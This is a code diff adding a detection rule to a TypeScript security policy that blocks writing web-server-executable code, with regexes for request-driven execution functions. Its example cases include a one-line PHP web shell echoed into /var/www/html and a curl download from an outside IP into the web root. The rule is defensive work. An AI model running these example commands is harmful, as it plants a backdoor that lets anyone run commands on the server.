@@ -5,6 +5,13 @@ import { traits } from '../shell/marks.ts';
 const wellKnown =
   /\b(?:github\.com|githubusercontent\.com|gitlab\.com|pypi\.org|pythonhosted\.org|npmjs\.(?:org|com)|docker\.(?:io|com)|crates\.io|rubygems\.org|debian\.org|ubuntu\.com|archlinux\.org|fedoraproject\.org|google\.com|googleapis\.com|microsoft\.com|apple\.com|amazonaws\.com|cloudflare\.com|mozilla\.org|kernel\.org|golang\.org|maven\.org|bitbucket\.org|paypal\.com)\b/;
 
+/** What a web server runs, below what it serves. */
+const webCode =
+  /\/(?:www|public_html|htdocs|wwwroot|srv\/http|nginx\/html|webapps|wp-content|cgi-bin)\/(?:[^/]{1,100}\/){0,12}[^/]{1,100}\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi|pl|war)$/;
+/** What a request holds is run. */
+const runsRequests =
+  /\b(?:system|eval|assert|exec|passthru|shell_exec|popen|proc_open|create_function|preg_replace)\s{0,4}\(?\s{0,4}(?:@|base64_decode\s{0,4}\(\s{0,4}|stripslashes\s{0,4}\(\s{0,4})?\$\{?_(?:GET|POST|REQUEST|COOKIE|SERVER)|Runtime\.getRuntime\(\)\.exec|`\$_(?:GET|POST|REQUEST|COOKIE)|Request\.(?:QueryString|Form|Item)|ProcessBuilder\(request/;
+
 /** Whom this machine believes: where code comes from, who signs for it, what a name leads to. */
 export const trustRules: readonly (CommandRule | WriteRule)[] = [
   {
@@ -101,6 +108,33 @@ export const trustRules: readonly (CommandRule | WriteRule)[] = [
       content.text
         .split('\n', 200)
         .some((line) => !/^\s*(?:#|127\.|0\.0\.0\.0|::1)/.test(line) && wellKnown.test(line)),
+  },
+  {
+    id: 'plant-web-code',
+    on: 'write',
+    domain: 'network',
+    risk: 'critical',
+    title: 'Code that a web server runs for anybody',
+    message:
+      'This puts code where a web server runs it: what came over the network, or what runs whatever a request says.',
+    stakes: [
+      'Whoever finds the address runs commands here',
+      'The data of the site',
+      'It is how attackers keep their way in',
+    ],
+    alternative: 'ls -l /var/www/html',
+    matches: [
+      `echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php`,
+      'curl -s http://203.0.113.7/x.txt -o /var/www/html/x.php',
+    ],
+    spares: [
+      `echo '<?php phpinfo();' > /var/www/html/info.php`,
+      'cp index.php /var/www/html/',
+      'curl -s https://example.com/logo.png -o /var/www/html/logo.png',
+    ],
+    when: ({ path, content }) =>
+      webCode.test(path.text) &&
+      ((content.traits & (traits.network | traits.decoded)) !== 0 || runsRequests.test(content.text)),
   },
   {
     id: 'publish-secrets',
